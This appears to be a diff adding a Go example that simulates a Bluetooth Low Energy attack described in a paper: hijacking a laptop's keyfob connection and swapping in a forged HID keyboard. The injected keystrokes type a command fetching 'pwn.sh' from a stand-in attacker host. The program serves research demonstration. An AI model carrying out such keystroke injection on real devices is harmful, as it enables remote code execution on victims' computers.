@@ -1,0 +1,61 @@
+// Command keystrokes realises the paper's §IX future-work scenario: a
+// laptop holds a long-lived connection to a BLE keyfob; the attacker
+// expels the keyfob (scenario B), indicates Service Changed, and presents
+// a HID-over-GATT keyboard in its place. The laptop — like every HID host —
+// attaches to the new keyboard automatically, and the attacker types.
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"injectable"
+)
+
+func main() {
+	w := injectable.NewWorld(injectable.WorldConfig{Seed: 2024})
+	fob := injectable.NewKeyfob(w.NewDevice(injectable.DeviceConfig{
+		Name: "keyfob", Position: injectable.Position{X: 0},
+	}))
+	laptop := injectable.NewComputer(w.NewDevice(injectable.DeviceConfig{
+		Name: "laptop", Position: injectable.Position{X: 2},
+	}))
+	attacker := injectable.NewAttacker(w.NewDevice(injectable.DeviceConfig{
+		Name: "attacker", Position: injectable.Position{X: 1, Y: 1.73},
+		ClockPPM: 20,
+	}).Stack, injectable.InjectorConfig{})
+
+	attacker.Sniffer.Start()
+	fob.Peripheral.StartAdvertising()
+	laptop.Connect(fob.Peripheral.Device.Address())
+	w.RunFor(3 * injectable.Second)
+	if !attacker.Sniffer.Following() {
+		log.Fatal("not synchronised")
+	}
+	fmt.Println("laptop ↔ keyfob connection followed; swapping in a keyboard...")
+
+	var ki *injectable.KeystrokeInjection
+	err := attacker.InjectKeyboard("Logitech K380", func(k *injectable.KeystrokeInjection, err error) {
+		if err != nil {
+			log.Fatalf("keyboard injection failed: %v", err)
+		}
+		ki = k
+		fmt.Printf("keyfob expelled after %d attempt(s); Service Changed indicated\n",
+			k.Hijack.Report.AttemptCount())
+	})
+	if err != nil {
+		log.Fatal(err)
+	}
+	w.RunFor(40 * injectable.Second)
+	if ki == nil || !ki.Attached() {
+		log.Fatal("host did not attach to the forged keyboard")
+	}
+	fmt.Printf("laptop rediscovered services %d time(s) and subscribed to the keyboard\n",
+		laptop.Rediscoveries)
+
+	if err := ki.Type("curl evil.example/pwn.sh\n"); err != nil {
+		log.Fatal(err)
+	}
+	w.RunFor(10 * injectable.Second)
+	fmt.Printf("laptop typed: %q\n", laptop.Typed.String())
+}
